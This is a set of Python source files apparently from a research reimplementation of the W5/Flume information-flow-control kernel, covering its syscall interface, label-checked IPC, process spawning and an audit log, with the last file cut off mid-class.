binding of (kernel, process).  Application code receives only this
object — never the kernel or its own ``Process`` — so every effect it
can have on the world is a checked syscall.

File and database access are grafted on by the platform layer (see
:mod:`repro.fs` and :mod:`repro.db`), which bind label-checked views of
the stores to the same process.
"""

from __future__ import annotations

from typing import Any, Optional, TYPE_CHECKING

from ..labels import Capability, CapabilitySet, Label, Tag
from .ipc import Message
from .process import BOTH, Endpoint

if TYPE_CHECKING:  # pragma: no cover
    from .kernel import Kernel
    from .process import Process


class W5Syscalls:
    """Per-process syscall interface (the only handle apps get)."""

    def __init__(self, kernel: "Kernel", process: "Process") -> None:
        self._kernel = kernel
        self._process = process

    # -- introspection (safe: a process may always inspect itself) -------

    @property
    def pid(self) -> int:
        return self._process.pid

    @property
    def name(self) -> str:
        return self._process.name

    def my_secrecy(self) -> Label:
        return self._process.slabel

    def my_integrity(self) -> Label:
        return self._process.ilabel

    def my_caps(self) -> CapabilitySet:
        return self._process.caps

    def locals(self) -> dict[str, Any]:
        """Process-private scratch storage."""
        return self._process.locals

    # -- tags and labels ---------------------------------------------------

    def create_tag(self, purpose: str = "", kind: str = "secrecy") -> Tag:
        return self._kernel.create_tag(self._process, purpose=purpose, kind=kind)

    def change_label(self, *, secrecy: Optional[Label] = None,
                     integrity: Optional[Label] = None) -> None:
        self._kernel.change_label(self._process, secrecy=secrecy,
                                  integrity=integrity)

    def raise_secrecy(self, *tags: Tag) -> None:
        """Convenience: add tags to the secrecy label (needs ``t+``)."""
        slabel = self._process.slabel
        adds = self._kernel._label_adds
        if adds is not None:
            # compiled-transitions companion memo: skip the frozenset
            # union + re-intern for the (label, tags) pairs every
            # tainted read repeats
            key = (slabel, tags)
            target = adds.get(key)
            if target is None:
                target = slabel.add(*tags)
                if len(adds) >= 65536:
                    adds.clear()
                adds[key] = target
            self.change_label(secrecy=target)
            return
        self.change_label(secrecy=slabel.add(*tags))

    def lower_secrecy(self, *tags: Tag) -> None:
        """Convenience: drop tags from the secrecy label (needs ``t-``)."""
        self.change_label(secrecy=self._process.slabel.remove(*tags))

    def drop_caps(self, *caps: Capability) -> None:
        self._kernel.drop_caps(self._process, caps)

    # -- endpoints and IPC ------------------------------------------------

    def create_endpoint(self, *, slabel: Optional[Label] = None,
                        ilabel: Optional[Label] = None,
                        direction: str = BOTH, name: str = "") -> Endpoint:
        return self._kernel.create_endpoint(
            self._process, slabel=slabel, ilabel=ilabel,
            direction=direction, name=name)

    def close_endpoint(self, ep: Endpoint) -> None:
        self._kernel.close_endpoint(self._process, ep)

    def send(self, from_ep: Endpoint, to_ep: Endpoint, payload: Any,
             grant: CapabilitySet = CapabilitySet.EMPTY,
             topic: str = "") -> Message:
        return self._kernel.send(self._process, from_ep, to_ep, payload,
                                 grant=grant, topic=topic)

    def receive(self, endpoint: Optional[Endpoint] = None,
                topic: Optional[str] = None) -> Message:
        return self._kernel.receive(self._process, endpoint=endpoint,
                                    topic=topic)

    def pending(self, topic: Optional[str] = None) -> int:
        return self._kernel.pending(self._process, topic=topic)

    # -- process management -------------------------------------------------

    def spawn(self, name: str, slabel: Optional[Label] = None,
              ilabel: Optional[Label] = None,
              grant: CapabilitySet = CapabilitySet.EMPTY) -> "W5Syscalls":
        """Spawn a child and return *its* syscall handle."""
        child = self._kernel.spawn(self._process, name, slabel=slabel,
                                   ilabel=ilabel, grant=grant)
        return W5Syscalls(self._kernel, child)

    def exit(self, value: Any = None) -> None:
        self._kernel.exit(self._process, value)
