"""The W5 reference monitor: processes, endpoints, IPC, audit."""

from .audit import AuditEvent, AuditLog
from .errors import (DeadProcess, EndpointMisuse, KernelError, MailboxEmpty,
                     NoSuchEndpoint, NoSuchProcess, ResourceExhausted)
from .ipc import Message
from .kernel import Kernel, ResourceHook
from .pool import ProcessPool
from .process import BOTH, RECV, SEND, Endpoint, Process
from .syscalls import W5Syscalls

__all__ = [
    "AuditEvent", "AuditLog",
    "DeadProcess", "EndpointMisuse", "KernelError", "MailboxEmpty",
    "NoSuchEndpoint", "NoSuchProcess", "ResourceExhausted",
    "Message", "Kernel", "ProcessPool", "ResourceHook",
    "BOTH", "RECV", "SEND", "Endpoint", "Process", "W5Syscalls",
]
