"""The W5 reference monitor.

``Kernel`` plays the role that Asbestos/HiStar/Flume play in the paper
(§3.1): the small trusted component that tracks labels "as data moves
inside of a machine, between machines, or to and from persistent
storage" (§2).  Every process state change and every message passes
through it; it consults :mod:`repro.labels.flow` for each decision and
records the decision in the audit log.

Design notes
------------

* **Endpoint discipline.**  Messages are checked between *declared
  endpoint labels* with exact subset tests.  Capabilities never apply
  silently at send time; they are spent explicitly, either by changing
  a label or by declaring an endpoint above/below the process label.
  (DESIGN.md §6 ablates this against raw process-label checks.)

* **Tag creation grants ownership.**  ``create_tag`` returns a fresh
  tag and endows the *creating process* with both capabilities — the
  Flume rule that bootstraps all delegation: the provider's login
  service creates Bob's tag, then hands the pieces to Bob's sessions
  and declassifiers as Bob directs.

* **Spawn is a flow.**  A child's initial labels and capabilities come
  from its parent, so spawning is checked like a message from parent to
  child; the capabilities granted must be a subset of the parent's.
  Provider services use ``spawn_trusted`` to bypass this (the provider
  is trusted by definition, §2).

* **Resource accounting.**  Every syscall charges the acting process
  through an optional :class:`ResourceManager` hook (see
  :mod:`repro.resources`), which is how §3.5's policing attaches.
"""

from __future__ import annotations

import itertools
from typing import Any, Callable, Iterable, Optional

from ..labels import (Capability, CapabilitySet, FlowCache, Label,
                      SecrecyViolation, Tag, TagRegistry)
from ..obs import NULL_TRACER
from . import audit as A
from .audit import AuditLog
from .errors import (DeadProcess, EndpointMisuse, MailboxEmpty, NoSuchEndpoint,
                     NoSuchProcess)
from .ipc import Message
from .process import BOTH, RECV, SEND, Endpoint, Process


class ResourceHook:
    """Interface the kernel charges resources through.

    The default implementation is unlimited; :mod:`repro.resources`
    provides metered containers.  ``charge`` raises
    :class:`~repro.kernel.errors.ResourceExhausted` to refuse.
    """

    def charge(self, process: Process, kind: str, amount: float) -> None:
        """Charge ``amount`` units of ``kind`` to ``process``."""

    def charge_many(self, process: Process,
                    items: Iterable[tuple[str, float]]) -> None:
        """Charge several kinds at once, sequential-equivalent.

        Must behave exactly like charging the items in order: the first
        refusal raises with earlier items already applied.  Metered
        hooks override this to do one usage lookup for the batch
        (M14); the unlimited default just loops.
        """
        for kind, amount in items:
            self.charge(process, kind, amount)

    def on_exit(self, process: Process) -> None:
        """Release accounting state for an exited process."""

    def on_recycle(self, process: Process) -> None:
        """Reset per-activation budgets for a process returning to the
        pool (see :mod:`repro.kernel.pool`).  Defaults to the exit
        path, which is correct for unlimited hooks."""
        self.on_exit(process)


class Kernel:
    """Process table + reference monitor + audit log.

    ``floating_labels`` selects the Asbestos-style alternative the
    Flume paper argues against: instead of refusing a send whose taint
    exceeds the receiver's endpoint, the receiver's secrecy label
    *floats up* to absorb it.  Every individual flow is still safe, but
    taint creeps monotonically through the system — the A1 ablation
    (``benchmarks/test_bench_a1_floating.py``) measures the creep.
    Production W5 uses the default, explicit-label mode.
    """

    def __init__(self, namespace: str = "w5",
                 resources: Optional[ResourceHook] = None,
                 floating_labels: bool = False,
                 flow_cache: Optional[FlowCache] = None,
                 recycle: bool = False,
                 audit_max_events: Optional[int] = None,
                 lazy_audit: bool = True,
                 compiled_transitions: bool = True) -> None:
        self.tags = TagRegistry(namespace=namespace)
        self.audit = AuditLog(max_events=audit_max_events, lazy=lazy_audit)
        self.resources = resources or ResourceHook()
        self.floating_labels = floating_labels
        #: Memoized flow decisions (see repro.labels.cache).  Pass
        #: ``FlowCache(enabled=False)`` for a pass-through kernel; the
        #: differential tests compare the two on identical histories.
        self.flow_cache = flow_cache if flow_cache is not None else FlowCache()
        #: App-process recycling (see repro.kernel.pool).  Disabled by
        #: default at the kernel level; the provider opts in.
        from .pool import ProcessPool
        self.pool = ProcessPool(self, enabled=recycle)
        #: Request tracer (see repro.obs).  The shared NULL_TRACER by
        #: default: `tracer.enabled` is the one-attribute-load guard
        #: hot paths use, and `tracer.span(...)` returns a no-op span,
        #: so instrumentation sites never need None checks.  The
        #: provider installs a live Tracer when tracing is on.
        self.tracer = NULL_TRACER
        #: Compiled label transitions (M14): memoized *allowed*
        #: ``(from_s, to_s, from_i, to_i, caps)`` tuples, guarded by
        #: the FlowCache generation so registry restores flush it.
        #: Denials always take the slow path for identical diagnostics.
        self._transitions: Optional[dict[tuple, bool]] = (
            {} if compiled_transitions else None)
        self._transitions_gen = self.flow_cache.generation
        # Companion memo: (label, tags) -> label.add(*tags).  Pure set
        # arithmetic over interned immutable values, so entries never
        # go stale; gated with the transition table because it exists
        # for the same reason (the per-request taint raise).
        self._label_adds: Optional[dict[tuple, Label]] = (
            {} if compiled_transitions else None)
        self._pids = itertools.count(1)
        self._procs: dict[int, Process] = {}
        #: endpoint_id -> (pid, Endpoint), a global routing table
        self._endpoints: dict[int, tuple[int, Endpoint]] = {}

    # ------------------------------------------------------------------
    # process lifecycle
    # ------------------------------------------------------------------

    def spawn_trusted(self, name: str, slabel: Label = Label.EMPTY,
                      ilabel: Label = Label.EMPTY,
                      caps: CapabilitySet = CapabilitySet.EMPTY,
                      owner_user: Optional[str] = None) -> Process:
        """Create a process with arbitrary initial state.

        Only provider code calls this (login service, gateway,
        launcher); developer code must go through :meth:`spawn`.
        """
        tracer = self.tracer
        if tracer.enabled:
            with tracer.span("kernel.spawn", process=name, trusted=True):
                return self._spawn_trusted(name, slabel, ilabel, caps,
                                           owner_user)
        return self._spawn_trusted(name, slabel, ilabel, caps, owner_user)

    def _spawn_trusted(self, name: str, slabel: Label, ilabel: Label,
                       caps: CapabilitySet,
                       owner_user: Optional[str]) -> Process:
        proc = Process(next(self._pids), name, slabel, ilabel, caps,
                       owner_user=owner_user)
        self._procs[proc.pid] = proc
        self.audit.record_lazy(A.SPAWN, True, "provider",
                               "trusted spawn %r pid=%d", (name, proc.pid),
                               {"pid": proc.pid})
        return proc

    def spawn(self, parent: Process, name: str,
              slabel: Optional[Label] = None,
              ilabel: Optional[Label] = None,
              grant: CapabilitySet = CapabilitySet.EMPTY,
              owner_user: Optional[str] = None) -> Process:
        """Spawn a child on behalf of ``parent``.

        The child's initial labels default to the parent's.  The grant
        must be a subset of the parent's capabilities, and handing the
        child its initial state must be a legal flow from the parent.
        """
        tracer = self.tracer
        if tracer.enabled:
            with tracer.span("kernel.spawn", process=name,
                             parent=parent.name):
                return self._spawn(parent, name, slabel, ilabel, grant,
                                   owner_user)
        return self._spawn(parent, name, slabel, ilabel, grant, owner_user)

    def _spawn(self, parent: Process, name: str,
               slabel: Optional[Label], ilabel: Optional[Label],
               grant: CapabilitySet,
               owner_user: Optional[str]) -> Process:
        self._require_alive(parent)
        self.resources.charge(parent, "processes", 1)
        child_s = parent.slabel if slabel is None else slabel
        child_i = parent.ilabel if ilabel is None else ilabel
        if not grant <= parent.caps:
            self.audit.record(A.SPAWN, False, parent.name,
                              f"spawn {name!r}: grant exceeds parent capabilities")
            from ..labels import CapabilityError
            raise CapabilityError(
                f"spawn {name!r}: cannot grant capabilities the parent lacks")
        try:
            self.flow_cache.check_flow(parent.slabel, parent.ilabel,
                                       child_s, child_i,
                                       d_from=parent.caps, d_to=grant,
                                       what=f"spawn {name!r}",
                                       category="spawn")
        except Exception:
            self.audit.record(A.SPAWN, False, parent.name,
                              f"spawn {name!r}: initial labels unreachable")
            raise
        child = Process(next(self._pids), name, child_s, child_i, grant,
                        owner_user=owner_user or parent.owner_user)
        self._procs[child.pid] = child
        self.audit.record(A.SPAWN, True, parent.name,
                          f"spawn {name!r} pid={child.pid}", pid=child.pid)
        return child

    def exit(self, process: Process, value: Any = None) -> None:
        """Terminate ``process``, closing its endpoints."""
        if not process.alive:
            return
        process.alive = False
        process.exit_value = value
        for ep in process.endpoints.values():
            ep.closed = True
            self._endpoints.pop(ep.endpoint_id, None)
        self.flow_cache.invalidate_subject(process.pid, reason="exit")
        self.resources.on_exit(process)
        self.audit.record_lazy(A.EXIT, True, process.name,
                               "exit pid=%d", (process.pid,),
                               {"pid": process.pid})

    def process(self, pid: int) -> Process:
        """Look up a live-or-dead process by pid."""
        try:
            return self._procs[pid]
        except KeyError:
            raise NoSuchProcess(f"pid {pid}") from None

    def processes(self) -> list[Process]:
        return list(self._procs.values())

    # ------------------------------------------------------------------
    # tags and labels
    # ------------------------------------------------------------------

    def create_tag(self, process: Process, purpose: str = "",
                   kind: str = "secrecy",
                   tag_owner: Optional[str] = None) -> Tag:
        """Mint a tag; the creator receives full ownership of it."""
        self._require_alive(process)
        self.resources.charge(process, "tags", 1)
        tag = self.tags.create(purpose=purpose, kind=kind,
                               owner=tag_owner or process.owner_user)
        process.caps = CapabilitySet.owning(tag) | process.caps
        self.flow_cache.invalidate_subject(process.pid, reason="create-tag")
        self.audit.record(A.TAG_CREATE, True, process.name,
                          f"create tag {tag.tag_id} ({purpose})",
                          tag_id=tag.tag_id)
        return tag

    def change_label(self, process: Process, *, secrecy: Optional[Label] = None,
                     integrity: Optional[Label] = None) -> list[Endpoint]:
        """Explicitly change the process's labels.

        Raises :class:`~repro.labels.CapabilityError` unless every
        added tag has its ``+`` and every dropped tag its ``-`` in the
        process's capability set.  Endpoints that fall out of reach are
        force-closed; the closed list is returned so callers can react.
        """
        self._require_alive(process)
        self.resources.charge(process, "syscalls", 1)
        transitions = self._transitions
        if transitions is not None:
            if self._transitions_gen != self.flow_cache.generation:
                transitions.clear()
                self._transitions_gen = self.flow_cache.generation
            key = (process.slabel, secrecy, process.ilabel, integrity,
                   process.caps)
            if transitions.get(key):
                # transition legality is a pure function of the
                # interned (from, to, caps) tuple — skip the re-derive
                # (and the per-call diagnostic strings) entirely
                return self._apply_label_change(process, secrecy, integrity)
        try:
            if secrecy is not None:
                self.flow_cache.check_label_change(
                    process.slabel, secrecy, process.caps,
                    what=f"{process.name} secrecy")
            if integrity is not None:
                self.flow_cache.check_label_change(
                    process.ilabel, integrity, process.caps,
                    what=f"{process.name} integrity")
        except Exception:
            self.audit.record(A.LABEL_CHANGE, False, process.name,
                              "label change refused")
            raise
        if transitions is not None:
            if len(transitions) >= 65536:
                transitions.clear()
            transitions[key] = True
        return self._apply_label_change(process, secrecy, integrity)

    def _apply_label_change(self, process: Process,
                            secrecy: Optional[Label],
                            integrity: Optional[Label]) -> list[Endpoint]:
        if secrecy is not None:
            process.slabel = secrecy
        if integrity is not None:
            process.ilabel = integrity
        self.flow_cache.invalidate_subject(process.pid, reason="label-change")
        if process.endpoints:
            closed = process.revalidate_endpoints(cache=self.flow_cache)
            for ep in closed:
                self._endpoints.pop(ep.endpoint_id, None)
        else:
            closed = []
        self.audit.record_lazy(A.LABEL_CHANGE, True, process.name,
                               "S=%r I=%r",
                               (process.slabel, process.ilabel))
        return closed

    def drop_caps(self, process: Process, caps: Iterable[Capability]) -> None:
        """Irrevocably discard capabilities (attenuation is always legal)."""
        self._require_alive(process)
        process.caps = process.caps.revoke(*caps)
        self.flow_cache.invalidate_subject(process.pid, reason="drop-caps")
        self.audit.record(A.GRANT, True, process.name, "dropped capabilities")

    # ------------------------------------------------------------------
    # endpoints
    # ------------------------------------------------------------------

    def create_endpoint(self, process: Process, *,
                        slabel: Optional[Label] = None,
                        ilabel: Optional[Label] = None,
                        direction: str = BOTH, name: str = "") -> Endpoint:
        """Declare an endpoint; labels default to the process's own.

        Declaring a label different from the process label is the
        *only* way capabilities affect communication, and it is loud:
        an audit event names the declared labels.
        """
        self._require_alive(process)
        self.resources.charge(process, "endpoints", 1)
        if direction not in (SEND, RECV, BOTH):
            raise EndpointMisuse(f"bad endpoint direction {direction!r}")
        ep = Endpoint(owner_pid=process.pid,
                      slabel=process.slabel if slabel is None else slabel,
                      ilabel=process.ilabel if ilabel is None else ilabel,
                      direction=direction, name=name)
        if not process.endpoint_legal(ep, cache=self.flow_cache):
            self.audit.record(A.ENDPOINT, False, process.name,
                              f"endpoint {name!r} outside capability reach")
            raise SecrecyViolation(
                f"endpoint {name!r}: declared labels outside the "
                f"capability reach of {process.name}")
        process.endpoints[ep.endpoint_id] = ep
        self._endpoints[ep.endpoint_id] = (process.pid, ep)
        self.audit.record(A.ENDPOINT, True, process.name,
                          f"endpoint {name!r} #{ep.endpoint_id} dir={direction}",
                          endpoint_id=ep.endpoint_id)
        return ep

    def close_endpoint(self, process: Process, ep: Endpoint) -> None:
        if ep.owner_pid != process.pid:
            raise EndpointMisuse("cannot close another process's endpoint")
        ep.closed = True
        process.endpoints.pop(ep.endpoint_id, None)
        self._endpoints.pop(ep.endpoint_id, None)

    def endpoint(self, endpoint_id: int) -> Endpoint:
        try:
            return self._endpoints[endpoint_id][1]
        except KeyError:
            raise NoSuchEndpoint(f"endpoint {endpoint_id}") from None

    # ------------------------------------------------------------------
    # IPC
    # ------------------------------------------------------------------

    def send(self, sender: Process, from_ep: Endpoint, to_ep: Endpoint,
             payload: Any, grant: CapabilitySet = CapabilitySet.EMPTY,
             topic: str = "") -> Message:
        """Send ``payload`` from one endpoint to another.

        The flow check is *exact* between the declared endpoint labels:
        ``S_from ⊆ S_to`` and ``I_to ⊆ I_from``.  Delegated
        capabilities must be a subset of the sender's.
        """
        tracer = self.tracer
        if tracer.enabled:
            with tracer.span("kernel.send", sender=sender.name,
                             topic=topic):
                return self._send(sender, from_ep, to_ep, payload, grant,
                                  topic)
        return self._send(sender, from_ep, to_ep, payload, grant, topic)

    def _send(self, sender: Process, from_ep: Endpoint, to_ep: Endpoint,
              payload: Any, grant: CapabilitySet, topic: str) -> Message:
        self._require_alive(sender)
        self.resources.charge(sender, "messages", 1)
        if from_ep.owner_pid != sender.pid:
            raise EndpointMisuse("sending from an endpoint the sender does not own")
        if not from_ep.can_send():
            raise EndpointMisuse(f"endpoint #{from_ep.endpoint_id} cannot send")
        if to_ep.closed or to_ep.endpoint_id not in self._endpoints:
            raise NoSuchEndpoint(f"endpoint {to_ep.endpoint_id} is closed")
        if not to_ep.can_recv():
            raise EndpointMisuse(f"endpoint #{to_ep.endpoint_id} cannot receive")
        recipient = self.process(to_ep.owner_pid)
        if not recipient.alive:
            raise DeadProcess(f"recipient pid {recipient.pid} has exited")
        if not grant <= sender.caps:
            self.audit.record(A.GRANT, False, sender.name,
                              "grant exceeds sender capabilities")
            from ..labels import CapabilityError
            raise CapabilityError("cannot delegate capabilities the sender lacks")
        if self.floating_labels:
            # Asbestos-style: secrecy is tracked on *process* labels
            # (endpoints play no secrecy role in this mode), and the
            # receiver absorbs the sender's taint instead of refusing.
            # Integrity is still checked (floating integrity *down*
            # would forge endorsements).
            overflow = sender.slabel - recipient.slabel
            if overflow.tags():
                recipient.slabel = recipient.slabel | overflow
                for ep in recipient.endpoints.values():
                    ep.slabel = ep.slabel | overflow
                self.audit.record(
                    A.LABEL_CHANGE, True, recipient.name,
                    f"floated up by {len(overflow)} tags from "
                    f"{sender.name}")
            try:
                self.flow_cache.check_flow(
                    Label.EMPTY, from_ep.ilabel, Label.EMPTY, to_ep.ilabel,
                    what=f"send {sender.name}->{recipient.name}",
                    category="ipc")
            except Exception:
                self.audit.record(A.SEND, False, sender.name,
                                  f"-> {recipient.name} refused")
                raise
        else:
            try:
                self.flow_cache.check_flow(
                    from_ep.slabel, from_ep.ilabel,
                    to_ep.slabel, to_ep.ilabel,
                    what=f"send {sender.name}->{recipient.name}",
                    category="ipc")
            except Exception:
                self.audit.record(A.SEND, False, sender.name,
                                  f"-> {recipient.name} topic={topic!r} refused")
                raise
        msg = Message(sender_pid=sender.pid,
                      sender_endpoint=from_ep.endpoint_id,
                      recipient_pid=recipient.pid,
                      recipient_endpoint=to_ep.endpoint_id,
                      payload=payload, slabel=from_ep.slabel,
                      ilabel=from_ep.ilabel, granted=grant, topic=topic)
        recipient.mailbox.append(msg)
        self.audit.record(A.SEND, True, sender.name,
                          f"-> {recipient.name} topic={topic!r}",
                          message_id=msg.message_id)
        return msg

    def receive(self, process: Process, endpoint: Optional[Endpoint] = None,
                topic: Optional[str] = None) -> Message:
        """Pop the oldest deliverable message; apply delegated caps.

        ``endpoint``/``topic`` filter the mailbox.  Raises
        :class:`MailboxEmpty` if nothing matches.
        """
        tracer = self.tracer
        if tracer.enabled:
            with tracer.span("kernel.receive", process=process.name):
                return self._receive(process, endpoint, topic)
        return self._receive(process, endpoint, topic)

    def _receive(self, process: Process, endpoint: Optional[Endpoint],
                 topic: Optional[str]) -> Message:
        self._require_alive(process)
        self.resources.charge(process, "syscalls", 1)
        for i, msg in enumerate(process.mailbox):
            if endpoint is not None and msg.recipient_endpoint != endpoint.endpoint_id:
                continue
            if topic is not None and msg.topic != topic:
                continue
            del process.mailbox[i]
            if len(msg.granted):
                process.caps = process.caps | msg.granted
                self.flow_cache.invalidate_subject(process.pid,
                                                   reason="cap-grant")
                self.audit.record(A.GRANT, True, process.name,
                                  f"received {len(msg.granted)} capabilities")
            self.audit.record(A.RECEIVE, True, process.name,
                              f"<- pid {msg.sender_pid} topic={msg.topic!r}",
                              message_id=msg.message_id)
            return msg
        raise MailboxEmpty(f"{process.name}: no matching message")

    def pending(self, process: Process, topic: Optional[str] = None) -> int:
        """Number of queued messages (optionally for one topic)."""
        self._require_alive(process)
        self.resources.charge(process, "syscalls", 1)
        if topic is None:
            return len(process.mailbox)
        return sum(1 for m in process.mailbox if m.topic == topic)

    # ------------------------------------------------------------------
    # helpers
    # ------------------------------------------------------------------

    def _require_alive(self, process: Process) -> None:
        if not process.alive:
            raise DeadProcess(f"pid {process.pid} ({process.name}) has exited")

    def syscalls_for(self, process: Process) -> "W5Syscalls":
        """The confined API handed to application code."""
        cls = _w5_syscalls_cls()
        return cls(self, process)


_W5_SYSCALLS_CLS = None


def _w5_syscalls_cls():
    # Imported lazily (circular import with .syscalls) but resolved
    # only once; syscalls_for runs on every request.
    global _W5_SYSCALLS_CLS
    if _W5_SYSCALLS_CLS is None:
        from .syscalls import W5Syscalls
        _W5_SYSCALLS_CLS = W5Syscalls
    return _W5_SYSCALLS_CLS
