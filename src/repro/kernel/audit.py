"""Audit log: the kernel's append-only record of security decisions.

W5 argues (§2) that users must be able to hold the provider to account;
the audit log is the mechanism.  Every flow decision, label change,
spawn, grant, and export attempt is recorded — allowed or denied — so
tests and benchmarks can assert not just on outcomes but on the
decisions that produced them.

The log is deliberately outside the label system: audit records are
provider-private and never flow back to applications.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable, Iterator, Optional

#: Event categories, used for filtering.
SPAWN = "spawn"
EXIT = "exit"
SEND = "send"
RECEIVE = "receive"
LABEL_CHANGE = "label_change"
GRANT = "grant"
TAG_CREATE = "tag_create"
ENDPOINT = "endpoint"
FILE_READ = "file_read"
FILE_WRITE = "file_write"
DB_QUERY = "db_query"
EXPORT = "export"
DECLASSIFY = "declassify"
RESOURCE = "resource"


@dataclass(frozen=True, slots=True)
class AuditEvent:
    """One security decision."""

    seq: int
    category: str
    allowed: bool
    subject: str          # acting process name (or "gateway", "provider")
    detail: str
    extra: dict[str, Any] = field(default_factory=dict, compare=False)

    def __repr__(self) -> str:  # pragma: no cover - cosmetic
        verdict = "ALLOW" if self.allowed else "DENY"
        return f"[{self.seq}] {verdict} {self.category} {self.subject}: {self.detail}"


class AuditLog:
    """Append-only event log with simple query helpers."""

    def __init__(self, capacity: Optional[int] = None) -> None:
        self._events: list[AuditEvent] = []
        self._seq = 0
        self._capacity = capacity
        self._subscribers: list[Callable[[AuditEvent], None]] = []

    def record(self, category: str, allowed: bool, subject: str,
               detail: str, **extra: Any) -> AuditEvent:
        """Append an event and notify subscribers."""
        self._seq += 1
        event = AuditEvent(self._seq, category, allowed, subject, detail, extra)
        self._events.append(event)
        if self._capacity is not None and len(self._events) > self._capacity:
            del self._events[: len(self._events) - self._capacity]
        for fn in self._subscribers:
            fn(event)
        return event

    def subscribe(self, fn: Callable[[AuditEvent], None]) -> None:
        """Register a callback invoked on every new event."""
        self._subscribers.append(fn)

    # -- queries -----------------------------------------------------------

    def __len__(self) -> int:
        return len(self._events)

    def __iter__(self) -> Iterator[AuditEvent]:
        return iter(self._events)

    def events(self, category: Optional[str] = None,
               subject: Optional[str] = None,
               allowed: Optional[bool] = None) -> list[AuditEvent]:
        """Events matching every given filter."""
        out = []
        for e in self._events:
            if category is not None and e.category != category:
                continue
            if subject is not None and e.subject != subject:
                continue
            if allowed is not None and e.allowed != allowed:
                continue
            out.append(e)
        return out

    def denials(self, category: Optional[str] = None) -> list[AuditEvent]:
        """All denied events, optionally in one category."""
        return self.events(category=category, allowed=False)

    def count(self, category: Optional[str] = None,
              allowed: Optional[bool] = None) -> int:
        return len(self.events(category=category, allowed=allowed))

    def last(self) -> Optional[AuditEvent]:
        return self._events[-1] if self._events else None

    def clear(self) -> None:
        """Drop all events (test convenience; providers would archive)."""
        self._events.clear()
