"""Audit log: the kernel's append-only record of security decisions.

W5 argues (§2) that users must be able to hold the provider to account;
the audit log is the mechanism.  Every flow decision, label change,
spawn, grant, and export attempt is recorded — allowed or denied — so
tests and benchmarks can assert not just on outcomes but on the
decisions that produced them.

The log is deliberately outside the label system: audit records are
provider-private and never flow back to applications.
"""

from __future__ import annotations

from _thread import get_ident
from collections import deque
from typing import Any, Callable, Iterator, Optional, Union

from ..errors import CrossShardWrite

#: Event categories, used for filtering.
SPAWN = "spawn"
EXIT = "exit"
SEND = "send"
RECEIVE = "receive"
LABEL_CHANGE = "label_change"
GRANT = "grant"
TAG_CREATE = "tag_create"
ENDPOINT = "endpoint"
FILE_READ = "file_read"
FILE_WRITE = "file_write"
DB_QUERY = "db_query"
EXPORT = "export"
DECLASSIFY = "declassify"
RESOURCE = "resource"


class AuditEvent:
    """One security decision.

    A hand-rolled ``__slots__`` class rather than a dataclass: events
    are constructed several times per request, and skipping the
    generated ``__init__`` indirection is measurable on the hot path.
    Equality ignores ``extra`` (diagnostic payload, not identity), the
    same semantics the earlier frozen-dataclass spelling had.

    ``detail`` may be recorded in deferred form: an interned
    %-template plus an ``args`` tuple of immutable values (strings,
    ints, interned labels).  The rendered string is produced on first
    access and cached — queries, equality, hashing, and ``repr`` all
    force it, so observable bytes are identical to eager formatting;
    only the *when* of the ``%`` call moves off the hot path.
    ``extra`` is likewise allocated on first access, so events with no
    diagnostic payload never carry an empty dict.
    """

    __slots__ = ("seq", "category", "allowed", "subject",
                 "_detail", "_args", "_extra")

    def __init__(self, seq: int, category: str, allowed: bool,
                 subject: str, detail: str,
                 extra: Optional[dict[str, Any]] = None,
                 args: Optional[tuple] = None) -> None:
        self.seq = seq
        self.category = category
        self.allowed = allowed
        self.subject = subject          # acting process name (or "gateway")
        self._detail = detail
        self._args = args
        self._extra = extra

    @property
    def detail(self) -> str:
        args = self._args
        if args is not None:
            self._detail = self._detail % args
            self._args = None
        return self._detail

    @property
    def extra(self) -> dict[str, Any]:
        extra = self._extra
        if extra is None:
            extra = self._extra = {}
        return extra

    def __eq__(self, other: object) -> bool:
        if not isinstance(other, AuditEvent):
            return NotImplemented
        return (self.seq == other.seq
                and self.category == other.category
                and self.allowed == other.allowed
                and self.subject == other.subject
                and self.detail == other.detail)

    def __hash__(self) -> int:
        return hash((self.seq, self.category, self.allowed,
                     self.subject, self.detail))

    def __repr__(self) -> str:  # pragma: no cover - cosmetic
        verdict = "ALLOW" if self.allowed else "DENY"
        return f"[{self.seq}] {verdict} {self.category} {self.subject}: {self.detail}"


class AuditLog:
    """Append-only event log with simple query helpers.

    ``max_events`` turns the log into a bounded ring: once the limit is
    reached the oldest events are discarded and counted in
    :attr:`dropped`.  Counters derived through :meth:`subscribe` (e.g.
    :class:`~repro.core.metrics.Metrics`) see every event regardless —
    only the *retained* history is bounded, which is what keeps long
    benchmark runs (the M8 scaling loads) from accumulating unbounded
    memory.  ``capacity`` is the older spelling of the same knob.

    ``category_index`` (default on) maintains one deque per category so
    :meth:`events(category=...)` walks only that category's events
    instead of re-scanning the whole ring — the trace correlator and
    Metrics-heavy tests issue the same filtered query hundreds of
    times.  Eviction order is global-FIFO, so the ring's evicted event
    is always the leftmost entry of its category deque: maintenance is
    O(1) per record and the indexed answer is behavior-identical to the
    scan (``tests/kernel/test_audit_index.py`` pins the equivalence).

    ``trace_source``, when set (the provider installs its ``Tracer``
    in tracing mode), is any object exposing a ``current`` span
    attribute (``.trace.trace_id`` / ``.span_id``); every record
    stamps the active ``trace_id``/``span_id`` into
    ``AuditEvent.extra`` — the correlation hook that ties audit lines
    to request span trees (see :mod:`repro.obs`).  An attribute read
    instead of a callback keeps the stamp to two loads on the hot
    path.
    """

    def __init__(self, capacity: Optional[int] = None,
                 max_events: Optional[int] = None,
                 category_index: bool = True,
                 lazy: bool = True) -> None:
        self._capacity = max_events if max_events is not None else capacity
        # a deque ring evicts in O(1); the unbounded log stays a list
        self._events: Union[list[AuditEvent], deque[AuditEvent]] = (
            deque(maxlen=self._capacity) if self._capacity is not None
            else [])
        self._seq = 0
        #: Events discarded by the ring bound (0 while unbounded).
        self.dropped = 0
        self._subscribers: list[Callable[[AuditEvent], None]] = []
        self._indexed = category_index
        #: When False, :meth:`record_lazy` renders templates eagerly —
        #: the M14 naive opt-out, byte-identical either way.
        self.lazy = lazy
        # Fused per-category state: category -> [index deque (or None
        # when unindexed), n_allowed, n_denied].  One dict probe per
        # append covers both the category index and the O(1) counters
        # (the pre-fusion layout probed three dicts per record).
        self._cats: dict[str, list] = {}
        self._n_allowed = 0
        self._n_denied = 0
        #: Optional tracer-like object whose ``current`` attribute is
        #: the active span (or None); stamped into every event's
        #: ``extra`` while a traced request is active.
        self.trace_source: Optional[Any] = None
        #: M13 ownership guard: when bound (sharded deployments bind
        #: each shard's log to its worker thread), records from any
        #: other thread raise instead of corrupting the stream.
        self._owner_ident: Optional[int] = None

